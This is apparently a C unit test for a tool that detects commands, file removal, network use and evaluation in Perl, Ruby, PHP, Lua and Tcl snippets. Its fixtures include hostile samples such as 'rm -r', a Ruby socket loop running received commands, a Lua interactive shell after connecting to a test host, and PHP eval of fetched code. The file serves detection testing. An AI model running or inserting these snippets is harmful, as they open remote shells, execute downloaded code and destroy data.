/* SPDX-License-Identifier: Apache-2.0 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "fixture.h"

#define NOT_READ "doubt language\n"

/* What is seen of languages that are not parsed, as operations_put() writes it. */
static const struct fixture_case cases[] = {
	{ "nothing", "print(1)", NOT_READ },
	{ "nothing at all", "", NOT_READ },
	{ "perl: a shell", "system('rm -r /a');",
	  "0 command 'rm' '-r' '/a' @nested\n1 remove '/a' +recursive @nested\n" NOT_READ },
	{ "perl: backticks", "print `id`;", "0 command 'id' @nested\n" NOT_READ },
	{ "perl: an open bracket of backticks", "`", NOT_READ },
	{ "perl: files", "unlink('/a'); open(my $f, '>', '/b'); open(F, '</c');",
	  "0 remove '/a'\n1 write '/b' +truncates\n2 read '/c'\n" NOT_READ },
	{ "ruby: files", "File.delete('/a')\nFile.write('/b', 'x')\nFileUtils.rm_rf('/c')",
	  "0 remove '/a'\n1 write '/b' +truncates\n2 remove '/c' +recursive\n" NOT_READ },
	{ "ruby: what comes over a connection is run, and the answer sent",
	  "c = TCPSocket.new('h.test', 9)\nIO.popen(c.gets) { |p| c.print(p.read) }",
	  "0 network 'h.test' +sends <1\n1 evaluate ~'?' <0\n" NOT_READ },
	{ "lua: names in quotes call nothing",
	  "require('socket') x = \"system\"", NOT_READ },
	{ "lua: a shell for a connection",
	  "t:connect(\"h.test\", 9) os.execute('/bin/sh -i')",
	  "0 network 'h.test'\n1 command '/bin/sh' '-i' +interactive @nested <0\n" NOT_READ },
	{ "php: parts that are put together", "exec('r' . 'm /' . 'a');",
	  "0 command 'rm' '/a' @nested\n1 remove '/a' @nested\n" NOT_READ },
	{ "php: a part that is not known", "exec(\"ls $x\");",
	  "0 evaluate ~'ls ?'\n1 command 'ls' '_' @nested\n" NOT_READ },
	{ "php: what is fetched is run", "eval(file_get_contents('http://h.test/a'));",
	  "0 network 'http://h.test/a' +fetches\n1 evaluate ~'?' <0\n" NOT_READ },
	{ "tcl: a connection", "set s [socket h.test 9]", "0 network 'h.test'\n" NOT_READ },
	{ "words of a sentence", "# the system can exec and eval or unlink, open and connect", NOT_READ },
	{ "an end in the middle of a text", "system('rm -r", "0 command 'rm' '-r' @nested\n" NOT_READ },
};

static void what_is_called_is_seen(void **state)
{
	fixture_run(LANGUAGE_OTHER, cases, sizeof cases / sizeof *cases);
}

int main(void)
{
	const struct CMUnitTest tests[] = { cmocka_unit_test(what_is_called_is_seen) };

	return cmocka_run_group_tests(tests, NULL, NULL);
}
